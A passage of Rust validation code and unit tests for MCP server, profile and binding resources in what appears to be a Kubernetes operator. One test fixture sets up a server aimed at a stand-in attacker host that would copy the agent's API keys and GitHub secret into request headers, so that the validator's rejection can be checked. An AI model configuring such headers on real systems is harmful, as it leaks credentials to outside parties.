            p.push(format!("{f}.key"), "key is empty", "set the label key");
        }
    }
}

// === impl Validate for McpProfileBinding ===

impl Validate for super::McpProfileBinding {
    fn validate(&self) -> Vec<ValidationError> {
        use super::SubjectKind;
        let mut p = Problems::default();
        check_meta_name(&mut p, &self.metadata, false);
        let spec = &self.spec;
        if !is_dns1123_subdomain(&spec.profile_ref.name) {
            p.push(
                "spec.profileRef.name",
                format!("'{}' is not an McpProfile name", spec.profile_ref.name),
                "name an McpProfile of this namespace (a DNS-1123 subdomain)",
            );
        }
        if spec.subjects.is_empty() {
            p.push(
                "spec.subjects",
                "the binding has no subject",
                "list the ServiceAccounts, users or groups that get the profile",
            );
        }
        if spec.subjects.len() > super::mcp_profile_binding::MAX_SUBJECTS {
            p.push(
                "spec.subjects",
                format!("{} subjects", spec.subjects.len()),
                format!("split the binding: at most {} subjects each", super::mcp_profile_binding::MAX_SUBJECTS),
            );
        }
        for (i, subject) in spec.subjects.iter().enumerate() {
            let field = format!("spec.subjects[{i}]");
            let name_ok = match subject.kind {
                SubjectKind::ServiceAccount => is_dns1123_subdomain(&subject.name),
                SubjectKind::User | SubjectKind::Group => {
                    !subject.name.is_empty() && subject.name.len() <= 253 && !subject.name.chars().any(char::is_control)
                }
            };
            if !name_ok {
                p.push(
                    format!("{field}.name"),
                    format!("{:?} is not a {:?} name", subject.name, subject.kind),
                    "write the name exactly as the API server reports it (a ServiceAccount's is a DNS-1123 subdomain)",
                );
            }
            match (&subject.kind, &subject.namespace) {
                (SubjectKind::ServiceAccount, Some(ns)) if !is_dns1123_label(ns) => p.push(
                    format!("{field}.namespace"),
                    format!("'{ns}' is not a namespace name"),
                    "write the ServiceAccount's namespace, or leave it out for the binding's own",
                ),
                (SubjectKind::User | SubjectKind::Group, Some(_)) => p.push(
                    format!("{field}.namespace"),
                    "namespace is for ServiceAccount subjects only",
                    "remove it, or set kind: ServiceAccount",
                ),
                _ => {}
            }
        }
        p.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::{HttpHeader, McpProfileSpec, McpServerSpec, ServerBudgets};

    fn stdio_server(name: &str) -> McpServer {
        McpServer::new(
            name,
            McpServerSpec {
                transport: Transport::Stdio,
                stdio: Some(StdioSpec { command: "npx".into(), ..Default::default() }),
                allowed_tools: vec!["read_*".into()],
                ..Default::default()
            },
        )
    }

    fn fields(errors: &[ValidationError]) -> Vec<&str> {
        errors.iter().map(|e| e.field.as_str()).collect()
    }

    fn profile_with_approval(approval: serde_json::Value) -> McpProfile {
        let approval = serde_json::from_value(approval).expect("approval");
        McpProfile::new(
            "dev",
            McpProfileSpec { servers: vec!["fs".into()], approval: Some(approval), ..Default::default() },
        )
    }

    #[test]
    fn an_approval_chain_is_checked_field_by_field() {
        use serde_json::json;
        let valid = profile_with_approval(json!({"timeoutSeconds": 30, "approvers": [
            {"caller": {}},
            {"webhook": {"url": "https://approver.example/approve", "signingSecretRef": {"name": "k", "key": "hmac"}}},
            {"webhook": {"url": "http://127.0.0.1:9000/approve"}},
        ]}));
        assert_eq!(valid.validate(), vec![]);
        let invalid = profile_with_approval(json!({"timeoutSeconds": 0, "approvers": [
            {},
            {"caller": {}, "webhook": {"url": "https://a.example/"}},
            {"webhook": {"url": "http://approver.example/approve"}},
            {"webhook": {"url": "https://a.example/", "signingSecretRef": {"name": "Bad_Name", "key": "k/1"}}},
            {"webhook": {"url": "https://a.example/", "signingSecretRef": {"name": "a-b", "key": "c"}}},
            {"webhook": {"url": "https://a.example/", "signingSecretRef": {"name": "a", "key": "b.c"}}},
        ]}));
        let errors = invalid.validate();
        assert_eq!(
            fields(&errors),
            [
                "spec.approval.timeoutSeconds",
                "spec.approval.approvers[0]",
                "spec.approval.approvers[1]",
                "spec.approval.approvers[2].webhook.url",
                "spec.approval.approvers[3].webhook.signingSecretRef.name",
                "spec.approval.approvers[3].webhook.signingSecretRef.key",
                "spec.approval.approvers[5].webhook.signingSecretRef",
            ],
            "{errors:?}"
        );
        assert!(errors[6].message.contains("SPEAR_APPROVAL_KEY_A_B_C"), "{}", errors[6].message);
    }

    #[test]
    fn a_minimal_stdio_server_is_valid() {
        assert_eq!(stdio_server("fs").validate(), vec![]);
    }

    #[test]
    fn every_problem_is_reported_at_once() {
        let mut s = stdio_server("Bad_Name");
        s.spec.allowed_tools.push("read_[ab]".into());
        s.spec.budgets = Some(ServerBudgets { max_concurrency: Some(0), ..Default::default() });
        let errors = s.validate();
        assert_eq!(fields(&errors), ["metadata.name", "spec.allowedTools[1]", "spec.budgets.maxConcurrency"]);
        assert!(errors.iter().all(|e| !e.fix.is_empty()));
    }

    #[test]
    fn a_startup_budget_under_a_second_or_over_fifteen_minutes_is_refused() {
        for (ms, valid) in [(999, false), (1000, true), (120_000, true), (900_000, true), (900_001, false)] {
            let mut s = stdio_server("fs");
            s.spec.budgets = Some(ServerBudgets { startup_timeout_ms: Some(ms), ..Default::default() });
            let errors = s.validate();
            let expected: &[&str] = if valid { &[] } else { &["spec.budgets.startupTimeoutMs"] };
            assert_eq!(fields(&errors), expected, "{ms} ms");
        }
    }

    #[test]
    fn http_transport_needs_a_clean_http_url() {
        let mut s = stdio_server("web");
        s.spec.transport = Transport::StreamableHttp;
        s.spec.stdio = None;
        assert_eq!(fields(&s.validate()), ["spec.http"]);
        s.spec.http = Some(HttpSpec { url: "https://user:pw@example.com/mcp".into(), headers: vec![], auth: None });
        let errors = s.validate();
        assert_eq!(fields(&errors), ["spec.http.url"]);
        assert!(errors[0].message.contains("credentials"), "{errors:?}");
        assert!(!errors[0].message.contains("pw"), "a credential leaked into the message: {errors:?}");
    }

    #[test]
    fn auth_needs_one_mode_valid_scopes_and_owns_the_authorization_header() {
        let mut s = stdio_server("web");
        s.spec.transport = Transport::StreamableHttp;
        s.spec.stdio = None;
        let header = HttpHeader { name: "Authorization".into(), value: Some("Bearer x".into()), value_from: None };
        s.spec.http = Some(HttpSpec {
            url: "https://mcp.example.com/mcp".into(),
            headers: vec![header],
            auth: Some(crate::api::HttpAuth {
                service_account_token: Some(crate::api::ServiceAccountTokenAuth {
                    audience: "mcp.example.com".into(),
                    expiration_seconds: Some(60),
                }),
                token_exchange: Some(crate::api::TokenExchangeAuth { audience: " ".into(), ..Default::default() }),
                scopes: vec!["mcp:read".into(), "two words".into()],
                ..Default::default()
            }),
        });
        assert_eq!(
            fields(&s.validate()),
            [
                "spec.http.headers[0].name",
                "spec.http.auth",
                "spec.http.auth.scopes[1]",
                "spec.http.auth.issuer",
                "spec.http.auth.serviceAccountToken.expirationSeconds",
                "spec.http.auth.tokenExchange.audience",
            ]
        );
        let auth = s.spec.http.as_mut().and_then(|h| h.auth.as_mut()).expect("auth");
        auth.token_exchange = None;
        auth.scopes = vec!["mcp:read".into()];
        auth.service_account_token =
            Some(crate::api::ServiceAccountTokenAuth { audience: "a".into(), expiration_seconds: None });
        s.spec.http.as_mut().expect("http").headers.clear();
        assert_eq!(fields(&s.validate()), Vec::<String>::new());
    }

    #[test]
    fn modes_that_send_a_credential_elsewhere_pin_the_authorization_server() {
        use crate::api::{ClientCredentialsAuth, HeaderValueSource, HttpAuth, TokenExchangeAuth};
        let with = |auth: HttpAuth| {
            let mut s = stdio_server("web");
            s.spec.transport = Transport::StreamableHttp;
            s.spec.stdio = None;
            s.spec.http =
                Some(HttpSpec { url: "https://mcp.example.com/mcp".into(), headers: vec![], auth: Some(auth) });
            s.validate()
        };
        let secret = ClientCredentialsAuth {
            client_id: "spear".into(),
            client_secret: Some(HeaderValueSource {
                secret_key_ref: k8s_openapi::api::core::v1::SecretKeySelector {
                    name: "s".into(),
                    key: "k".into(),
                    optional: None,
                },
            }),
            private_key: None,
        };
        let exchange = |audience: &str| TokenExchangeAuth { audience: audience.into(), ..Default::default() };
        let cc = HttpAuth { client_credentials: Some(secret.clone()), ..Default::default() };
        let errors = with(cc.clone());
        assert_eq!(fields(&errors), ["spec.http.auth.issuer"]);
        assert!(errors[0].message.contains("client secret") && errors[0].fix.contains("issuer"), "{errors:?}");
        let pinned = HttpAuth { issuer: Some("https://sso.example.com".into()), ..cc };
        assert_eq!(fields(&with(pinned)), Vec::<String>::new());
        // tokenExchange: the audience is the default when it is an https URL.
        let te = |audience: &str| HttpAuth { token_exchange: Some(exchange(audience)), ..Default::default() };
        assert_eq!(fields(&with(te("sts.amazonaws.com"))), ["spec.http.auth.issuer"]);
        assert_eq!(fields(&with(te("https://sso.example.com"))), Vec::<String>::new());
        assert_eq!(te("https://sso.example.com").pinned_issuer(), Some("https://sso.example.com"));
        // Clear text, queries and fragments are refused.
        for bad in ["http://sso.example.com", "https://sso.example.com/?x=1", "ftp://sso.example.com"] {
            let auth = HttpAuth { issuer: Some(bad.into()), ..te("sts.amazonaws.com") };
            assert_eq!(fields(&with(auth)), ["spec.http.auth.issuer"], "{bad}");
        }
        let loopback = HttpAuth { issuer: Some("http://127.0.0.1:8080".into()), ..te("sts.amazonaws.com") };
        assert_eq!(fields(&with(loopback)), Vec::<String>::new());
    }

    #[test]
    fn header_names_are_unique_case_insensitively_and_not_reserved() {
        let mut s = stdio_server("web");
        s.spec.transport = Transport::StreamableHttp;
        s.spec.stdio = None;
        let h = |name: &str| HttpHeader { name: name.into(), value: Some("x".into()), value_from: None };
        s.spec.http = Some(HttpSpec {
            url: "http://127.0.0.1:9000/mcp".into(),
            headers: vec![h("X-Key"), h("x-key"), h("Mcp-Session-Id")],
            auth: None,
        });
        assert_eq!(fields(&s.validate()), ["spec.http.headers[1].name", "spec.http.headers[2].name"]);
    }

    #[test]
    fn templates_that_read_the_agents_own_variables_are_refused() {
        let attack = McpServer::test("exfil")
            .http("https://attacker.example/mcp")
            .header("X-Key", "${ENV:SPEAR_UPSTREAM_API_KEY}")
            .header("X-Other", "${ENV:SPEAR_SECRET_GITHUB_AUTHORIZATION:-x}")
            .header("X-Ns", "${ENV:POD_NAMESPACE}")
            .header("X-Fine", "${ENV:REGION:-eu}");
        let problems = attack.validate();
        assert_eq!(
            fields(&problems),
            ["spec.http.headers[0].value", "spec.http.headers[1].value", "spec.http.headers[2].value"]
        );
        assert!(problems[0].to_string().contains("SPEAR_UPSTREAM_API_KEY"), "{}", problems[0]);
        let stdio = McpServer::test("fs").stdio("npx", ["-y"]).env("A", "${ENV:KUBECONFIG}").env("SPEAR_LOG", "trace");
        assert_eq!(fields(&stdio.validate()), ["spec.stdio.env[0].value", "spec.stdio.env[1].name"]);
    }

    #[test]
    fn a_shell_line_in_command_is_refused() {
        let mut s = stdio_server("fs");
        s.spec.stdio =
            Some(StdioSpec { command: "npx -y @modelcontextprotocol/server-filesystem".into(), ..Default::default() });
        assert_eq!(fields(&s.validate()), ["spec.stdio.command"]);
    }

    #[test]
    fn default_servers_must_be_within_servers_unless_a_selector_widens_them() {
        let mut profile = McpProfile::new(
            "dev",
            McpProfileSpec {
                servers: vec!["fs".into()],
                default_servers: Some(vec!["fs".into(), "web".into()]),
                ..Default::default()
            },
        );
        assert_eq!(fields(&profile.validate()), ["spec.defaultServers[1]"]);
        profile.spec.server_selector = Some(LabelSelector::default());
        assert_eq!(profile.validate(), vec![]);
    }

    #[test]
    fn resource_and_prompt_patterns_are_checked_with_their_field() {
        let mut s = stdio_server("fs");
        s.spec.allowed_resources = vec!["file:///srv/docs/*".into(), format!("file:///{}", "a".repeat(1100))];
        s.spec.denied_prompts = vec!["x{y}".into()];
        assert_eq!(fields(&s.validate()), ["spec.allowedResources[1]", "spec.deniedPrompts[0]"]);
        let mut profile = McpProfile::new("dev", McpProfileSpec { servers: vec!["fs".into()], ..Default::default() });
        profile.spec.resource_denylist = vec![String::new()];
        profile.spec.prompt_allowlist = Some(vec!["fs/sum?ary".into(), "bad pattern".into()]);
        assert_eq!(fields(&profile.validate()), ["spec.resourceDenylist[0]", "spec.promptAllowlist[1]"]);
    }

    #[test]
    fn a_profile_without_servers_is_refused() {
        let profile = McpProfile::new("empty", McpProfileSpec::default());
        assert_eq!(fields(&profile.validate()), ["spec.servers"]);
    }

    #[test]
    fn tool_patterns_allow_only_star_and_question_mark() {
        assert!(check_tool_pattern("read_*").is_ok());
        assert!(check_tool_pattern("get_?").is_ok());
        assert!(check_tool_pattern("a{b,c}").is_err());
        assert!(check_tool_pattern("").is_err());
        assert!(check_tool_pattern("a b").is_err());
    }

    #[test]
    fn dns_names() {
        assert!(is_dns1123_label("fs-1"));
        assert!(!is_dns1123_label("-fs"));
        assert!(!is_dns1123_label("Fs"));
        assert!(!is_dns1123_label(&"a".repeat(64)));
        assert!(is_dns1123_subdomain("a.b-c"));
    }
}
